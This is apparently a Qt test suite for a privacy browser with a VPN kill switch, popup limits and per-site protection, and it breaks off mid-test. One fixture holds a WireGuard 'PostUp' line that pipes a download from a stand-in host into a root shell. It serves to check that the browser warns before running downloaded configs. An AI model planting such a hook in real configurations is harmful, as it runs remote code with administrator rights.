#include "BrowserWindow.h"
#include "ClosedTabs.h"
#include "CommandPalette.h"
#include "ContentBlocker.h"
#include "DataManager.h"
#include "DownloadItem.h"
#include "DownloadManager.h"
#include "FakeTools.h"
#include "FilterListManager.h"
#include "MainWindow.h"
#include "ModalAnswerer.h"
#include "ErrorPage.h"
#include "PopupWindow.h"
#include "PrivacyDashboard.h"
#include "PrivacyEngine.h"
#include "ServiceEndpoints.h"
#include "SiteProtection.h"
#include "SiteShield.h"
#include "TempDataDir.h"
#include "TestHttpServer.h"
#include "VPNManager.h"
#include "VpnGate.h"
#include "WebPage.h"

#include <QSslKey>
#include <QSslServer>
#include <QWebEngineDownloadRequest>
#include <QWebEngineHistory>
#include <QWebEngineProfile>
#include <QWebEngineView>
#include <QtTest>
#include <QtWidgets>
#include <memory>

#include <csignal>

static constexpr int Slow = 20000; // page loads on a busy machine

// An HTTPS server with a self-signed certificate: every request gets one page.
class SelfSignedServer : public QSslServer
{
public:
    SelfSignedServer()
    {
        QSslConfiguration tls = QSslConfiguration::defaultConfiguration();
        tls.setLocalCertificateChain(QSslCertificate::fromPath(QStringLiteral(ORVEX_TEST_DATA_DIR "/tls/selfsigned.crt")));
        QFile key(QStringLiteral(ORVEX_TEST_DATA_DIR "/tls/selfsigned.key"));
        if (key.open(QIODevice::ReadOnly))
            tls.setPrivateKey(QSslKey(&key, QSsl::Rsa));
        setSslConfiguration(tls);
        connect(this, &QTcpServer::pendingConnectionAvailable, this, [this] {
            while (QTcpSocket *socket = nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    if (!socket->readAll().contains("\r\n\r\n"))
                        return;
                    ++requests;
                    const QByteArray body = "<html><head><title>TLS Page</title></head><body>tls</body></html>";
                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: "
                                  + QByteArray::number(body.size()) + "\r\n\r\n" + body);
                    socket->disconnectFromHost();
                });
            }
        });
    }
    QUrl url(const QString &path) const { return QUrl(QStringLiteral("https://127.0.0.1:%1%2").arg(serverPort()).arg(path)); }
    int requests = 0;
};

// The whole window against fake VPN tools, a fresh data folder and pages
// from a loopback server that also plays the account service's home page.
class TestMainWindow : public QObject
{
    Q_OBJECT

    std::unique_ptr<TempDataDir> dir;
    std::unique_ptr<FakeTools> tools;
    std::unique_ptr<TestHttpServer> server;
    // The account service has an origin of its own: it stays reachable
    // without a tunnel, every other page does not.
    std::unique_ptr<TestHttpServer> account;
    const QString warning = BrowserWindow::vpnWarningAddress();

    std::unique_ptr<MainWindow> makeWindow(bool tunnelUp)
    {
        tools->setIpOutputFromSample(tunnelUp ? QStringLiteral("openvpn-tun-up") : QStringLiteral("host-no-tunnel"));
        return std::make_unique<MainWindow>();
    }
    void setTunnel(MainWindow &w, bool up)
    {
        tools->setIpOutputFromSample(up ? QStringLiteral("openvpn-tun-up") : QStringLiteral("host-no-tunnel"));
        w.vpn()->checkVPNStatus();
        QTRY_COMPARE_WITH_TIMEOUT(w.vpn()->isConnected(), up, 10000);
    }
    static void type(MainWindow &w, const QString &text)
    {
        w.addressBar()->setText(text);
        w.onUrlEntered();
    }
    static BrowserWindow *tabAt(MainWindow &w, int i) { return qobject_cast<BrowserWindow *>(w.tabs()->widget(i)); }
    static void show(MainWindow &w)
    {
        w.show();
        w.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&w));
    }
    static QVariant js(QWebEnginePage *page, const QString &script)
    {
        QVariant result;
        bool done = false;
        page->runJavaScript(script, [&](const QVariant &value) {
            result = value;
            done = true;
        });
        if (!QTest::qWaitFor([&] { return done; }, Slow))
            qWarning("script did not answer");
        return result;
    }
    // A real mouse click on an element of the page: the engine sees a user gesture.
    static void click(QWebEngineView *view, const char *id, Qt::MouseButton button = Qt::LeftButton,
                      Qt::KeyboardModifiers modifiers = {})
    {
        const QVariantList at = js(view->page(), QStringLiteral("(function () { const r = document.getElementById('%1')"
                                                                ".getBoundingClientRect(); return [r.left + r.width / 2,"
                                                                " r.top + r.height / 2]; })()")
                                                     .arg(QLatin1String(id)))
                                    .toList();
        QCOMPARE(at.size(), 2);
        QTest::mouseClick(view->focusProxy(), button, modifiers, QPoint(at.at(0).toInt(), at.at(1).toInt()));
    }
    static bool loaded(BrowserWindow *tab, const QString &title) { return tab && tab->title() == title && !tab->isLoading(); }
    QString page(const char *path) const { return server->url(QString::fromLatin1(path)).toString(); }
    QString storedUrl(int i) const
    {
        const QJsonArray session = QJsonDocument::fromJson(dir->readFile(QStringLiteral("session.json"))).array();
        return session.at(i).toObject().value("url").toString();
    }

private Q_SLOTS:
    void init()
    {
        // The offscreen platform and the GPU-less engine announce what they lack.
        QTest::failOnWarning(QRegularExpression(QStringLiteral(
            "^(?!This plugin does not support|No suitable graphics backend|WebEngineContext used before).*")));
        dir = std::make_unique<TempDataDir>();
        tools = std::make_unique<FakeTools>();
        server = std::make_unique<TestHttpServer>();
        QVERIFY(server->listen());
        const QList<QPair<QByteArray, QByteArray>> pages{
            {"/", "Orvex Home"}, {"/a", "Page A"}, {"/b", "Page B"}, {"/long", "0123456789012345678901234567890123456789"}};
        for (const auto &[path, title] : pages)
            server->setPage(path, "<html><head><title>" + title + "</title></head><body>x</body></html>");
        server->route("/slow", [](const TestHttpServer::Request &) {
            return TestHttpServer::Response{200, "text/html", "<title>Slow</title>", {}, 1500};
        });
        QByteArray icon;
        QBuffer buffer(&icon);
        QImage(16, 16, QImage::Format_ARGB32).save(&buffer, "PNG");
        server->setPage("/favicon.ico", icon, "image/png");
        account = std::make_unique<TestHttpServer>();
        QVERIFY(account->listen());
        account->setPage("/", "<html><head><title>Orvex Home</title></head><body>home</body></html>");
        account->setPage("/signup", "<html><head><title>Sign up</title></head><body>s</body></html>");
        ServiceEndpoints::setAccountUrl(account->baseUrl());
    }
    void cleanup()
    {
        BrowserWindow::finishPendingPrints();
        WebPage::forgetCertificateExceptions();
        account.reset();
        server.reset();
        tools.reset();
        dir.reset();
        ServiceEndpoints::reset();
    }

    // The reload button reads "X" while loading and the tab text is the title
    // cut to 25 characters. With the tunnel down a typed address is refused for
    // the warning page, the session keeps it, and the tab goes there once up.
    void browsingWithATunnel()
    {
        auto w = makeWindow(true);
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->tabText(0), QStringLiteral("Orvex Home"), Slow);
        type(*w, page("/slow"));
        QTRY_COMPARE_WITH_TIMEOUT(w->reloadToolButton()->text(), QStringLiteral("X"), Slow);
        QTRY_VERIFY_WITH_TIMEOUT(w->reloadToolButton()->text().isEmpty(), Slow);
        type(*w, page("/long"));
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->tabText(0), QStringLiteral("0123456789012345678901234"), Slow);
        type(*w, page("/long") + QStringLiteral("#end")); // same document: no new title
        QTest::qWait(600);
        QCOMPARE(w->tabs()->tabText(0), QStringLiteral("0123456789012345678901234"));
        QCOMPARE(server->requestCount("/favicon.ico"), 1); // one fetch for the host, none by the engine

        // The warning page is our stand-in, not a visit: once it has loaded
        // (the moment history would record it), history does not hold it.
        QSignalSpy warningLoaded(w->currentBrowser(), &BrowserWindow::loadFinished);
        setTunnel(*w, false);
        QTRY_VERIFY_WITH_TIMEOUT(!warningLoaded.isEmpty() && warningLoaded.last().at(0).toBool(), Slow);
        QCOMPARE(w->currentBrowser()->url().toString(), warning);
        for (const QJsonValue &visit : w->data()->getHistory())
            QVERIFY(visit[QLatin1String("url")].toString() != warning);
        type(*w, page("/a"));
        QCOMPARE(w->addressBar()->text(), warning);
        w->saveSession();
        QCOMPARE(storedUrl(0), page("/a"));
        QCOMPARE(server->requestCount("/a"), 0);
        setTunnel(*w, true);
        QTRY_COMPARE_WITH_TIMEOUT(w->currentBrowser()->title(), QStringLiteral("Page A"), Slow);
    }

    // Saved switches reach every open tab and the tabs opened later.
    void savedSettingsReachEveryTab()
    {
        auto w = makeWindow(true);
        w->onNewTab();
        ModalAnswerer::answer([](QWidget *dialog) {
            for (QCheckBox *box : dialog->findChildren<QCheckBox *>())
                box->setChecked(box->isChecked() && box->text() != QStringLiteral("Ad Blocking"));
            for (QPushButton *button : dialog->findChildren<QPushButton *>())
                if (button->text() == QStringLiteral("Save"))
                    button->click();
        });
        w->onSettings();
        w->onNewTab();
        for (int i = 0; i < 3; ++i)
            QCOMPARE(tabAt(*w, i)->privacy()->getPrivacySettings().value("adBlocking").toBool(true), false);
    }

    // Restored without a tunnel: the tabs, a new tab and a duplicate show the
    // warning and fetch nothing, and quitting keeps the refused addresses. Once
    // up, every tab kept behind the warning (even one whose warning has not
    // loaded yet) returns to its address, once.
    void sessionWithoutTunnel()
    {
        QJsonArray session;
        for (const char *path : {"/a", "/b"})
            session.append(QJsonObject{{"url", page(path)}, {"title", ""}, {"pinned", false}});
        dir->writeFile(QStringLiteral("session.json"), QJsonDocument(session).toJson());
        auto w = makeWindow(false);
        QCOMPARE(w->tabs()->count(), 2);
        w->onNewTab();
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 2)->url().toString(), warning, Slow);
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 1)->url().toString(), warning, Slow);
        QCOMPARE(server->requests().size(), 0);
        w.reset();
        QCOMPARE(storedUrl(0), page("/a"));
        QCOMPARE(storedUrl(1), page("/b"));

        w = makeWindow(false);
        w->onDuplicateTab(0);
        QCOMPARE(tabAt(*w, w->tabs()->currentIndex())->sessionUrl(), page("/a"));
        setTunnel(*w, true);
        QTRY_COMPARE_WITH_TIMEOUT(server->requestCount("/a"), 2, Slow);
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 1)->title(), QStringLiteral("Page B"), Slow);
        w->tabs()->setCurrentIndex(1);
        QTest::qWait(300);
        QCOMPARE(server->requestCount("/a"), 2);
        QCOMPARE(server->requestCount("/b"), 1);
    }

    // Any-case ".ovpn" starts OpenVPN, anything else wg-quick; disconnecting
    // takes down exactly that.
    void vpnButtonConnectsAndDisconnects_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QString>("up");
        QTest::addColumn<QString>("down");
        QTest::newRow("openvpn") << "OFFICE.OVPN" << "openvpn --config %1 --daemon --writepid " << "kill -TERM ";
        QTest::newRow("wireguard") << "de1.ovpn.conf" << "wg-quick up %1" << "wg-quick down %1";
    }
    void vpnButtonConnectsAndDisconnects()
    {
        QFETCH(QString, file);
        QFETCH(QString, up);
        QFETCH(QString, down);
        const QString path = dir->downloadDir() + QLatin1Char('/') + file;
        QVERIFY(QFile(path).open(QIODevice::WriteOnly));
        auto w = makeWindow(false);
        w->setVpnFileChooser([path](QWidget *) { return path; });
        w->onVPNDialog();
        auto called = [this](const QString &start) {
            const QStringList calls = tools->calls();
            return std::any_of(calls.cbegin(), calls.cend(), [&](const QString &c) { return c.startsWith(start); });
        };
        QTRY_VERIFY_WITH_TIMEOUT(called(up.replace(QLatin1String("%1"), path)), 10000);
        QTRY_VERIFY_WITH_TIMEOUT(w->vpn()->hasOwnTunnel(), 10000);
        setTunnel(*w, true);
        // The tools take the tunnel down; the next probe must not see it again.
        tools->setIpOutputFromSample(QStringLiteral("host-no-tunnel"));
        ModalAnswerer yes({QStringLiteral("Yes")});
        w->onVPNDisconnect();
        QTRY_VERIFY_WITH_TIMEOUT(called(down.replace(QLatin1String("%1"), path)), 10000);
    }

    // A tool's failure reaches the status bar and a message box, as plain
    // text. A configuration the browser downloaded is used only after a
    // question (default No) that lists the commands it runs as root.
    void vpnFailuresAndDownloadedConfigurations_data()
    {
        QTest::addColumn<bool>("downloaded");
        QTest::addColumn<QString>("answer");
        QTest::addColumn<bool>("fails");
        QTest::newRow("tool fails") << false << "" << true;
        QTest::newRow("downloaded, refused") << true << "No" << false;
        QTest::newRow("downloaded, accepted") << true << "Yes" << false;
    }
    void vpnFailuresAndDownloadedConfigurations()
    {
        QFETCH(bool, downloaded);
        QFETCH(QString, answer);
        QFETCH(bool, fails);
        const QString path = dir->downloadDir() + QStringLiteral("/de1.conf");
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("[Interface]\nPrivateKey = k\nPostUp = curl https://x.test/<b>i</b> | sh\n");
        file.close();
        if (downloaded)
            dir->writeFile(QStringLiteral("downloads.json"),
                           QJsonDocument(QJsonArray{QJsonObject{{"url", "https://x.test/de1.conf"}, {"filename", "de1.conf"},
                                                                {"path", path}}}).toJson());
        if (fails)
            tools->setResult(QStringLiteral("wg-quick"), 1, "Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error\n");
        auto w = makeWindow(false);
        w->setVpnFileChooser([path](QWidget *) { return path; });
        QString question;
        Qt::TextFormat format = Qt::AutoText;
        bool defaultNo = false;
        if (downloaded)
            ModalAnswerer::answer([&](QWidget *widget) {
                auto *box = qobject_cast<QMessageBox *>(widget);
                QVERIFY(box);
                question = box->text();
                format = box->textFormat();
                defaultNo = box->defaultButton() == box->button(QMessageBox::No);
                box->button(answer == QStringLiteral("Yes") ? QMessageBox::Yes : QMessageBox::No)->click();
            });
        w->onVPNDialog();
        if (downloaded) {
            QVERIFY2(question.contains(QStringLiteral("runs these commands as administrator:\n    PostUp = curl https://x.test/<b>i</b> | sh\n")),
                     qPrintable(question));
            QCOMPARE(format, Qt::PlainText);
            QVERIFY(defaultNo);
        }
        if (answer == QStringLiteral("No")) {
            QTest::qWait(300);
            QCOMPARE(tools->callsOf(QStringLiteral("wg-quick")), QStringList());
            return;
        }
        QTRY_COMPARE_WITH_TIMEOUT(tools->callsOf(QStringLiteral("wg-quick")), QStringList{QStringLiteral("wg-quick up ") + path}, 10000);
        if (!fails)
            return;
        QMessageBox *box = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT((box = w->findChild<QMessageBox *>(QStringLiteral("vpnFailureBox"))) && box->isVisible(), 10000);
        QCOMPARE(box->text(), QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error"));
        QCOMPARE(box->textFormat(), Qt::PlainText);
        QCOMPARE(w->statusBar()->currentMessage(),
                 QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>' Configuration parsing error"));
        box->close();
    }

    // With several tabs a download is saved once, not once per tab.
    void oneDownloadWithSeveralTabs()
    {
        server->route("/file.bin", [](const TestHttpServer::Request &) {
            return TestHttpServer::Response{200, "application/octet-stream", QByteArray(4096, 'q'),
                                            {{"Content-Disposition", "attachment; filename=\"file.bin\""}, {"Connection", "close"}}};
        });
        auto w = makeWindow(true);
        w->onNewTab();
        w->onNewTab();
        tabAt(*w, 1)->loadUrl(server->url(QStringLiteral("/file.bin")));
        QTRY_COMPARE_WITH_TIMEOUT(w->downloads()->downloadCount(), 1, Slow);
        QTRY_COMPARE_WITH_TIMEOUT(QFileInfo(w->downloads()->downloadAt(0)->path()).size(), qint64(4096), Slow);
        QTest::qWait(300);
        QCOMPARE(w->downloads()->downloadCount(), 1);
    }

    // Addresses and searches as people type them.
    void addressOrSearch_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("address"); // empty: a search
        QTest::newRow("bare host") << "example.org" << "https://example.org";
        QTest::newRow("host beginning with http") << "httpbin.org/get" << "https://httpbin.org/get";
        QTest::newRow("explicit http") << "http://example.org/a" << "http://example.org/a";
        QTest::newRow("upper-case scheme") << "HTTPS://Example.org" << "https://example.org";
        QTest::newRow("localhost") << "localhost" << "http://localhost";
        QTest::newRow("localhost with port and path") << "localhost:8080/x" << "http://localhost:8080/x";
        QTest::newRow("name under localhost") << "news.localhost:8099/a" << "http://news.localhost:8099/a";
        QTest::newRow("name ending in localhost") << "mylocalhost.org" << "https://mylocalhost.org";
        QTest::newRow("ip and port") << "127.0.0.1:3000" << "http://127.0.0.1:3000";
        QTest::newRow("ipv6 and port") << "[::1]:8080" << "http://[::1]:8080";
        QTest::newRow("host and port") << "intranet:8443/login" << "https://intranet:8443/login";
        QTest::newRow("about") << "about:blank" << "about:blank";
        QTest::newRow("one word") << "weather" << "";
        QTest::newRow("words with a dot") << "what is 3.5" << "";
        QTest::newRow("port out of range") << "intranet:99999" << "";
        QTest::newRow("colon but no port") << "note:to self" << "";
    }
    void addressOrSearch()
    {
        QFETCH(QString, text);
        QFETCH(QString, address);
        QCOMPARE(MainWindow::addressFromText(text).toString(), address);
    }

    // The kill switch: once the probe finds no tunnel, nothing of any tab,
    // popup or menu reaches the network (here, a loopback server), whatever
    // asks for it; the account service stays reachable. Back up, it resumes.
    void noRequestLeavesWithoutTunnel()
    {
        server->setPage("/ticker", "<html><head><title>Ticker</title></head><body><a id='l' href='/b'>b</a>"
                                   "<script>setInterval(function () { fetch('/tick?' + Date.now()).catch(function () {}); }, 100);"
                                   "</script></body></html>");
        server->setPage("/tick", "t", "text/plain");
        server->setPage("/opener", "<html><head><title>Opener</title></head><body>"
                                   "<button id='pop' style='width:200px;height:60px' onclick=\"window.open('/a', 'p', "
                                   "'width=300,height=200')\">pop</button></body></html>");
        auto w = makeWindow(true);
        show(*w);
        type(*w, page("/ticker"));
        QTRY_VERIFY_WITH_TIMEOUT(server->requestCount("/tick") > 0, Slow);
        w->onNewTab();
        type(*w, page("/opener"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Opener")), Slow);
        click(w->currentBrowser()->webView(), "pop");
        QTRY_COMPARE_WITH_TIMEOUT(w->findChildren<PopupWindow *>().size(), 1, Slow);
        PopupWindow *popup = w->findChildren<PopupWindow *>().first();
        QTRY_COMPARE_WITH_TIMEOUT(popup->view()->title(), QStringLiteral("Page A"), Slow);
        w->data()->addBookmark(page("/b"), QStringLiteral("Bee"));

        tools->setIpOutputFromSample(QStringLiteral("host-no-tunnel"));
        w->vpn()->checkVPNStatus();
        QTRY_VERIFY_WITH_TIMEOUT(!VpnGate::isOpen(), 10000);
        server->clearRequests();
        // A link and a script in a background tab, a popup's script, the
        // bookmarks menu, a typed address.
        js(tabAt(*w, 0)->webView()->page(), QStringLiteral("document.getElementById('l').click()"));
        js(popup->page(), QStringLiteral("location.href = '/b'"));
        ModalAnswerer::triggerMenuAction(QStringLiteral("Bee"));
        w->onBookmarks();
        type(*w, page("/a"));
        QTest::qWait(1500);
        QCOMPARE(server->requests().size(), 0);
        QCOMPARE(w->addressBar()->text(), warning);
        // Sign-up and login work before a tunnel exists.
        w->currentBrowser()->loadUrl(account->url(QStringLiteral("/signup")));
        QTRY_COMPARE_WITH_TIMEOUT(w->currentBrowser()->title(), QStringLiteral("Sign up"), Slow);
        QCOMPARE(server->requests().size(), 0);

        // Back up, the background tab goes where its link was headed.
        setTunnel(*w, true);
        QTRY_VERIFY_WITH_TIMEOUT(server->requestCount("/b") > 0, Slow);
    }

    // "Protection on this site" from the toolbar shield, the palette and the
    // dashboard: stored at once, every tab of the site reloads, other sites'
    // tabs stay; the shield follows the current tab.
    void protectionOnThisSite()
    {
        auto w = makeWindow(true);
        show(*w);
        type(*w, page("/a"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page A")), Slow);
        w->onNewTab();
        type(*w, page("/b"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page B")), Slow);
        w->onNewTab();
        type(*w, QStringLiteral("http://localhost:%1/a").arg(server->port()));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page A")), Slow);
        QCOMPARE(w->siteShield()->site(), QStringLiteral("localhost"));
        w->tabs()->setCurrentIndex(0);
        QCOMPARE(w->siteShield()->site(), QStringLiteral("127.0.0.1"));
        QVERIFY(w->siteShield()->isProtectionOn());

        const auto loadsOf = [this](const QByteArray &host) {
            int n = 0;
            for (const TestHttpServer::Request &r : server->requests())
                n += r.header("Host").startsWith(host + ':') && (r.path == "/a" || r.path == "/b");
            return n;
        };
        server->clearRequests();
        QTest::mouseClick(w->siteShield(), Qt::LeftButton);
        QVERIFY(!w->blocker()->siteProtection()->isProtected(QStringLiteral("127.0.0.1")));
        QVERIFY(!w->siteShield()->isProtectionOn());
        QTRY_COMPARE_WITH_TIMEOUT(loadsOf("127.0.0.1"), 2, Slow);
        QCOMPARE(w->statusBar()->currentMessage(), QStringLiteral("Protection is off for 127.0.0.1; its tabs were reloaded"));
        QCOMPARE(SiteProtection(dir->dataFolder()).unprotectedSites(), QStringList({"127.0.0.1"}));
        QCOMPARE(loadsOf("localhost"), 0);

        w->onCommandPalette();
        w->palette()->searchField()->setText(QStringLiteral("protection on this site"));
        QCOMPARE(w->palette()->listWidget()->count(), 1);
        QVERIFY(w->palette()->listWidget()->item(0)->text().contains(QStringLiteral("Off for 127.0.0.1")));
        QTest::keyClick(w->palette()->searchField(), Qt::Key_Return);
        QVERIFY(w->blocker()->siteProtection()->isProtected(QStringLiteral("127.0.0.1")));
        QTRY_COMPARE_WITH_TIMEOUT(loadsOf("127.0.0.1"), 4, Slow);

        // The dashboard offers the same switch for its tab's site.
        PrivacyDashboard dashboard(w->currentBrowser()->privacy());
        dashboard.setSiteProtection(w->blocker()->siteProtection());
        QVERIFY(!dashboard.siteProtectionBox()->isHidden());
        QVERIFY(dashboard.siteProtectionBox()->isChecked());
        dashboard.siteProtectionBox()->click();
        QVERIFY(!w->blocker()->siteProtection()->isProtected(QStringLiteral("127.0.0.1")));
        QVERIFY(!w->siteShield()->isProtectionOn());
        QTRY_COMPARE_WITH_TIMEOUT(loadsOf("127.0.0.1"), 6, Slow);

        // A private window shares the lists and the switch.
        auto *ghost = new MainWindow(w.get(), true);
        QCOMPARE(ghost->blocker(), w->blocker());
        delete ghost;
    }

    // The lists update only inside the tunnel: the window tells the list
    // manager how the tunnel is, and "Update Filter Lists" says why it waits.
    void filterListsFollowTheTunnel()
    {
        auto w = makeWindow(true);
        QVERIFY(w->blocker()->lists()->isTunnelUp());
        setTunnel(*w, false);
        QTRY_VERIFY_WITH_TIMEOUT(!w->blocker()->lists()->isTunnelUp(), 10000);
        w->onUpdateFilterLists();
        QCOMPARE(w->statusBar()->currentMessage(), QStringLiteral("Filter lists are updated only while the VPN tunnel is up"));
        setTunnel(*w, true);
        QTRY_VERIFY_WITH_TIMEOUT(w->blocker()->lists()->isTunnelUp(), 10000);
    }

    // Links that ask for a new tab get one next to their page: target=_blank
    // in front, Ctrl+click and middle-click behind it, one after the other.
    // window.open with a size gets a popup that keeps its opener and closes
    // itself; without a click, or a hundred times from one click, no flood.
    void pagesOpenTabsAndPopups()
    {
        server->setPage("/links", "<html><head><title>Links</title></head><body style='margin:0'>"
                                  "<a id='blank' target='_blank' href='/a' style='display:block;height:40px'>blank</a>"
                                  "<a id='plain' href='/b' style='display:block;height:40px'>plain</a>"
                                  "<button id='pop' style='display:block;height:40px' onclick=\"window.open('/popup', 'p',"
                                  " 'width=320,height=240')\">pop</button>"
                                  "<button id='flood' style='display:block;height:40px' onclick=\"for (var i = 0; i < 200; ++i)"
                                  " window.open('/popup?' + i, 'f' + i, 'width=200,height=200')\">flood</button>"
                                  "<script>window.addEventListener('message', function (e) { document.title = 'got ' + e.data; });"
                                  "</script></body></html>");
        server->setPage("/popup", "<html><head><title>Popup</title></head><body>"
                                  "<script>window.opener.postMessage('hello', '*');</script></body></html>");
        auto w = makeWindow(true);
        show(*w);
        type(*w, page("/links"));
        BrowserWindow *links = w->currentBrowser();
        QTRY_VERIFY_WITH_TIMEOUT(loaded(links, QStringLiteral("Links")), Slow);

        click(links->webView(), "blank");
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->count(), 2, Slow);
        QCOMPARE(w->tabs()->indexOf(links), 0);
        QCOMPARE(w->tabs()->currentIndex(), 1);
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 1)->title(), QStringLiteral("Page A"), Slow);

        w->tabs()->setCurrentWidget(links);
        click(links->webView(), "plain", Qt::LeftButton, Qt::ControlModifier);
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->count(), 3, Slow);
        click(links->webView(), "plain", Qt::MiddleButton);
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->count(), 4, Slow);
        QCOMPARE(w->currentBrowser(), links);
        // Behind their opener, in the order they were opened, after the
        // front tab it opened first.
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 2)->title(), QStringLiteral("Page B"), Slow);
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 3)->title(), QStringLiteral("Page B"), Slow);
        QCOMPARE(tabAt(*w, 1)->title(), QStringLiteral("Page A"));

        click(links->webView(), "pop");
        QTRY_COMPARE_WITH_TIMEOUT(w->findChildren<PopupWindow *>().size(), 1, Slow);
        QPointer<PopupWindow> popup = w->findChildren<PopupWindow *>().first();
        QTRY_COMPARE_WITH_TIMEOUT(links->title(), QStringLiteral("got hello"), Slow);
        QCOMPARE(popup->addressLine()->text(), page("/popup"));
        QCOMPARE(w->tabs()->count(), 4);
        js(popup->page(), QStringLiteral("window.close()"));
        QTRY_VERIFY_WITH_TIMEOUT(popup.isNull(), Slow);

        js(links->webView()->page(), QStringLiteral("window.open('/popup', 'q', 'width=300,height=300')"));
        click(links->webView(), "flood");
        QTest::qWait(1500);
        QVERIFY(w->findChildren<PopupWindow *>().size() <= 1);
        QCOMPARE(w->tabs()->count(), 4);
    }

    // Back and forward follow the page as it navigates; the reload button
    // stops a load. The keys every browser has do what they say.
    void navigationAndKeys()
    {
        server->route("/stall", [](const TestHttpServer::Request &) {
            return TestHttpServer::Response{200, "text/html", "<title>Stall</title>", {}, 8000};
        });
        auto w = makeWindow(true);
        show(*w);
        type(*w, page("/a"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page A")), Slow);
        type(*w, page("/b"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page B")), Slow);
        QTRY_VERIFY(w->backToolButton()->isEnabled());
        QVERIFY(!w->forwardToolButton()->isEnabled());

        QTest::keyClick(w.get(), Qt::Key_Left, Qt::AltModifier);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page A")), Slow);
        QTRY_VERIFY(w->forwardToolButton()->isEnabled());
        // The mouse's forward button, pressed over the page.
        QMouseEvent forward(QEvent::MouseButtonPress, QPointF(50, 50), QPointF(50, 50), Qt::ForwardButton,
                            Qt::ForwardButton, Qt::NoModifier);
        QApplication::sendEvent(w->currentBrowser()->webView()->focusProxy(), &forward);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page B")), Slow);

        type(*w, page("/stall"));
        QTRY_COMPARE_WITH_TIMEOUT(w->reloadToolButton()->text(), QStringLiteral("X"), Slow);
        w->reloadToolButton()->click();
        QTRY_VERIFY_WITH_TIMEOUT(w->reloadToolButton()->text().isEmpty(), 5000);

        QTest::keyClick(w.get(), Qt::Key_T, Qt::ControlModifier);
        QTRY_COMPARE(w->tabs()->count(), 2);
        QTest::keyClick(w.get(), Qt::Key_1, Qt::ControlModifier);
        QCOMPARE(w->tabs()->currentIndex(), 0);
        QTest::keyClick(w.get(), Qt::Key_9, Qt::ControlModifier);
        QCOMPARE(w->tabs()->currentIndex(), 1);
        QTest::keyClick(w.get(), Qt::Key_Tab, Qt::ControlModifier);
        QCOMPARE(w->tabs()->currentIndex(), 0);
        QTest::keyClick(w.get(), Qt::Key_PageUp, Qt::ControlModifier);
        QCOMPARE(w->tabs()->currentIndex(), 1);

        // Closed and reopened where it was, with its back list.
        QTest::keyClick(w.get(), Qt::Key_1, Qt::ControlModifier);
        QTest::keyClick(w.get(), Qt::Key_W, Qt::ControlModifier);
        QTRY_COMPARE(w->tabs()->count(), 1);
        QTest::keyClick(w.get(), Qt::Key_T, Qt::ControlModifier | Qt::ShiftModifier);
        QTRY_COMPARE(w->tabs()->count(), 2);
        QCOMPARE(w->tabs()->currentIndex(), 0);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page B")), Slow);
        QVERIFY(w->currentBrowser()->canGoBack());

        QTest::keyClick(w.get(), Qt::Key_L, Qt::ControlModifier);
        QVERIFY(w->addressBar()->hasFocus());
        QCOMPARE(w->addressBar()->selectedText(), w->addressBar()->text());
        const int bookmarks = w->data()->getBookmarks().size();
        QTest::keyClick(w.get(), Qt::Key_D, Qt::ControlModifier);
        QCOMPARE(w->data()->getBookmarks().size(), bookmarks + 1);

        // What the user types stays while the page's address changes; Esc gives it up.
        QTest::keyClicks(w->addressBar(), QStringLiteral("half typed"));
        js(w->currentBrowser()->webView()->page(), QStringLiteral("history.pushState({}, '', '/b?moved'); true"));
        QTRY_VERIFY(w->currentBrowser()->url().toString().endsWith(QStringLiteral("moved")));
        QCOMPARE(w->addressBar()->text(), QStringLiteral("half typed"));
        QTest::keyClick(w->addressBar(), Qt::Key_Escape);
        QCOMPARE(w->addressBar()->text(), w->currentBrowser()->url().toString());

        // A new tab is for typing an address: what the user types replaces
        // the home page's, whether that arrived before or not.
        QTest::keyClick(w.get(), Qt::Key_T, Qt::ControlModifier);
        QTRY_COMPARE(w->tabs()->count(), 3);
        QVERIFY(w->addressBar()->hasFocus());
        QTRY_VERIFY(!w->currentBrowser()->url().isEmpty());
        QTest::keyClicks(w->addressBar(), page("/b"));
        QCOMPARE(w->addressBar()->text(), page("/b"));
        QTest::keyClick(w->addressBar(), Qt::Key_Return);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page B")), Slow);
    }

    // What pages ask of the browser: full screen for a view, credentials,
    // a way past a bad certificate; and a crashed page is said to be one.
    void pageRequests()
    {
        server->setPage("/video", "<html><head><title>Video</title></head><body>"
